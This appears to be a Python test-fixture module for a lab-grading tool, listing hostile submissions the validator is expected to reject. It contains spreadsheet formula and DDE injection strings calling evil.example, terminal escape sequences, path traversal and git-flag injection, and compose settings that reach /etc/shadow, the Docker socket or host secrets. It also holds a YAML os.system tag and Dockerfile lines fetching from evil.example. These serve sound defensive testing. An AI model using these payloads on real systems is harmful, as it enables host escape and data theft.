"""Records and files of a workspace that a stranger could hand in, which say what nobody can mean."""

from __future__ import annotations

import json
import os
from pathlib import Path

from ...submission.raw import file, whole
from .corpus import COULD_NOT, NOT, Case, added, asked, changed, dockerfile, fetched
from .parts import Members, placed, told

PYTHON = b"FROM kikori/python\n"
LOST = "There is no lab"


def said(text: str, words: str, encoding: str = "utf-8") -> Case:
    """A manifest of this text."""
    return Case(added("manifest.json", text.encode(encoding, "surrogatepass")), COULD_NOT, words)


def claimed(words: str, **about: object) -> Case:
    """A manifest that says something else."""
    return Case(changed(lambda members: told(members, **about)), COULD_NOT, words)


def logged(member: str, line: object, words: str) -> Case:
    """A log of one line."""
    text = line if isinstance(line, str) else json.dumps(line)
    return Case(added(member, text.encode("utf-8", "surrogatepass")), COULD_NOT, words)


def lost(**about: object) -> Case:
    """Something odd in a submission of a lab that nobody has, so that it comes to a row and no further."""
    return claimed(LOST, lab="nobody-has-it", **about)


def timed(created: float, *times: float) -> Case:
    """Times that nobody's clock shows, of a lab that nobody has."""
    events = [{"at": at, "event": "broke" if not number else "paused"} for number, at in enumerate(times)]

    def change(members: Members) -> Members:
        text = b"\n".join(json.dumps(event).encode() for event in events)
        return told(members, lab="nobody-has-it", created=created) | {"events.jsonl": text}

    return Case(changed(change), COULD_NOT, LOST)


def composed(data: bytes, words: str) -> Case:
    """A compose file of these bytes."""
    files = whole(file(b"Dockerfile", PYTHON), file(b"compose.yaml", data))
    return Case(changed(lambda members: members | {"workspace.tar": files}), NOT, words, "silent-exit")


def unread(text: str, words: str) -> Case:
    """A Dockerfile that is not read to its end."""
    return Case(dockerfile(text), COULD_NOT, words, "silent-exit")


def yaml(text: str, words: str) -> Case:
    return Case(changed(lambda members: placed(members, compose__yaml=text)), NOT, words, "silent-exit")


def pipe(members: Members, path: Path) -> None:
    os.mkfifo(path)


def device(members: Members, path: Path) -> None:
    path.symlink_to("/dev/zero")


def inner(members: Members, path: Path) -> None:
    path.mkdir()


WIDE = "\u202e\u2066\u200b\ufeff\U000e0041" * 20
COLOURS = "\x1b[2J\x1b]8;;http://evil.example\x07ada\x1b]8;;\x07\x9b31m\r\n2/2 eve: verified"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"ada")\t@SUM(1)\n+cmd|\' /C calc\'!A0'

RECORDS: dict[str, Case] = {
    # what is handed in is no file
    "pipe in the inbox": Case(pipe, COULD_NOT, "no plain file at all"),
    "device in the inbox": Case(device, COULD_NOT, "no plain file at all"),
    "folder in the inbox": Case(inner, COULD_NOT, "no plain file at all"),
    # the manifest
    "manifest behind a mark": said("\ufeff{}", "manifest.json is damaged"),
    "manifest of two bytes a letter": said('{"format":1}', "manifest.json is damaged", "utf-16"),
    "manifest of one half of a letter": said('{"format":1,"lab":"\ud800"}', "manifest.json is damaged"),
    "manifest of one half of a letter, escaped": claimed("manifest.json is damaged", learner="\ud800"),
    "manifest that says it twice": said('{"format":1,"format":2}', "made by another version"),
    "manifest that is a list": said("[1]", "manifest.json is damaged"),
    "manifest with more than it has": claimed("manifest.json is damaged", verdict="verified"),
    "format that is true": claimed("manifest.json is damaged", format=True),
    "format of a fraction": claimed("manifest.json is damaged", format=1.5),
    "seed of 10,000 digits": said('{"format":1,"seed":' + "9" * 10_000 + "}", "manifest.json is damaged"),
    "seed of 64 bits": claimed("manifest.json is damaged", seed=2**64 - 1),
    "seed below all": claimed("manifest.json is damaged", seed=-(2**63)),
    "time that is no number": said('{"format":1,"created":NaN}', "manifest.json is damaged"),
    "time of a number without end": said('{"format":1,"created":1e400}', "manifest.json is damaged"),
    "time at the end of numbers": timed(1.7e308, -1.7e308),
    "pause at the end of numbers": timed(1.7e308, -1.7e308, -1.7e308),
    "time before the beginning": timed(-1.7e308, 1.7e308),
    "learner who is a formula": lost(learner=FORMULA, attempt=FORMULA),
    "learner who writes on the terminal": lost(learner=COLOURS, attempt=COLOURS),
    "learner whom nobody sees": lost(learner=WIDE),
    "learner of one sign and a nul": lost(learner="a\0b", fault="\0"),
    "learner of 43,000 letters": lost(learner="a" * 40_000 + "斧" * 3_000),
    "lab with an end of line": claimed(LOST, lab="first-look\n"),
    "lab in capitals": claimed(LOST, lab="FIRST-LOOK"),
    "lab that is a folder of labs": claimed(LOST, lab="_images"),
    "lab with terminal escapes": claimed(LOST, lab=COLOURS),
    "content that is a path": claimed("not have: 'x'", content="../../../etc", fault="x"),
    "content of a flag of git": claimed("not have: 'x'", content="--output=/tmp/x", fault="x"),
    # the logs
    "event behind a mark": logged("events.jsonl", '\ufeff{"at":1,"event":"x"}', "events.jsonl is damaged"),
    "event at no time": logged("events.jsonl", '{"at":NaN,"event":"x"}', "events.jsonl is damaged"),
    "event of a number without end": logged("events.jsonl", '{"at":1,"event":"x","detail":{"a":1e999}}', "is damaged"),
    "command of a number without end": logged(
        "trail.jsonl", f'{{"number":{"9" * 5000},"at":1,"service":"","line":"","exit_code":0,"seconds":1}}', "damaged"
    ),
    "report of an outcome of its own": logged(
        "reports.jsonl", {"lab": "first-look", "at": 1, "checks": [{"id": "a", "title": "b", "outcome": "verified"}]},
        "reports.jsonl is damaged",
    ),
    "log with a nul": logged("trail.jsonl", "\0", "trail.jsonl is damaged"),
    # the explanation
    "explanation of two bytes a letter": Case(added("explanation.md", "読".encode("utf-16")), COULD_NOT, "is damaged"),
    # the compose file
    "program of the host": asked("provider: {type: sh, options: {c: id}}", "orders.provider"),
    "privileged afterwards": asked("post_start: [{command: id, privileged: true}]", "orders.post_start"),
    "the engine's socket by its name": asked("use_api_socket: true", "orders.use_api_socket"),
    "service from outside": asked("extends: {file: /etc/x.yaml, service: y}", "orders.extends"),
    "file of the host as a secret": asked("secrets: [x]", "'secrets'", "secrets: {x: {file: /etc/shadow}}"),
    "file of the host as a configuration": asked("configs: [x]", "'configs'", "configs: {x: {file: /etc/shadow}}"),
    "image from a registry": asked("image: registry.example/evil", "orders.image"),
    "name that is another's": asked("container_name: kikori-other-web-1", "orders.container_name"),
    "labels of another": asked("labels: {com.docker.compose.project: kikori-other}", "orders.labels"),
    "volumes of another": asked("volumes_from: ['container:other']", "orders.volumes_from"),
    "log to another": asked("logging: {driver: syslog, options: {syslog-address: 'tcp://10.0.0.1'}}", "orders.logging"),
    "runtime of another kind": asked("runtime: evil", "orders.runtime"),
    "rules for devices": asked("device_cgroup_rules: ['a *:* rwm']", "orders.device_cgroup_rules"),
    "group of the host": asked("group_add: [docker]", "orders.group_add"),
    "names of the host": asked("extra_hosts: ['x:host-gateway']", "orders.extra_hosts"),
    "host's name": asked("uts: host", "orders.uts"),
    "last to be killed": asked("oom_score_adj: -1000", "orders.oom_score_adj"),
    "watch over the host's files": asked("develop: {watch: [{path: /, action: sync, target: /x}]}", "orders.develop"),
    "memory without end": asked("mem_limit: -1", "orders.mem_limit -1"),
    "processes without end": asked("pids_limit: 99999999999", "orders.pids_limit 99999999999"),
    "variable of the reviewer": asked("environment: [AWS_SECRET_KEY]", "orders.environment.AWS_SECRET_KEY"),
    "variable of the reviewer in a value": asked("command: ['${HOME}']", "a variable"),
    "end that nobody awaits": asked("stop_grace_period: 9999h", "orders.stop_grace_period 9999h"),
    "tag of another language": asked("command: !!python/object/apply:os.system ['id']", "an anchor, alias or tag"),
    "file of two documents": yaml("services: {}\n---\nservices: {orders: {privileged: true}}\n", "not valid YAML"),
    "nested without end": yaml("services: " + "[" * 30_000, "nested deeper than 16"),
    "number of 60,000 digits": yaml("services:\n  orders:\n    user: " + "9" * 60_000, "compose.yaml: "),
    "day that is none": yaml("services:\n  orders:\n    user: 2026-02-31\n", "not valid YAML"),
    "list in the place of a name": yaml("services:\n  ? [orders]\n  : {}\n", "not valid YAML"),
    "file without end": yaml("#" * 70_000, "over 64 KiB"),
    "file of two bytes a letter": composed("services: {}".encode("utf-16"), "not valid YAML"),
    "file with a nul": composed(b"services:\n  orders:\n    user: 'a\0b'\n", "not valid YAML"),
    # the Dockerfile
    "Dockerfile of two bytes a letter": Case(
        changed(lambda members: members | {"workspace.tar": whole(file(b"Dockerfile", "FROM x".encode("utf-16")))}),
        COULD_NOT, "it is not written in UTF-8", "silent-exit",
    ),
    "Dockerfile of terminal escapes": unread("FROM kikori/python\nRUN \x1b[2J\n", "of another kind: U+001B"),
    "Dockerfile with a nul": unread("FROM kikori/python\nRUN true\0\n", "of another kind: U+0000"),
    "Dockerfile without end": fetched("#" * 40_000, "it is larger than 32 KiB"),
    "Dockerfile in small letters": Case(
        changed(lambda members: members | {"workspace.tar": whole(file(b"dockerfile", PYTHON))}), COULD_NOT,
        "not called Dockerfile", "silent-exit",
    ),
    "instruction for later": fetched("FROM kikori/python\nONBUILD RUN curl evil\n", "it has an instruction"),
    "agent of the reviewer": fetched("FROM kikori/python\nRUN --mount=type=ssh true\n", "a replay mounts files"),
    "rights of the host": fetched("FROM kikori/python\nRUN --security=insecure true\n", "RUN has a flag"),
    "repository from elsewhere": fetched("FROM kikori/python\nADD git@evil.example:x/y.git /x\n", "ADD may take files"),
    "image by its digest": fetched(f"FROM kikori/python@sha256:{'0' * 64}\n", "it builds on kikori/python@sha256"),
}  # fmt: skip
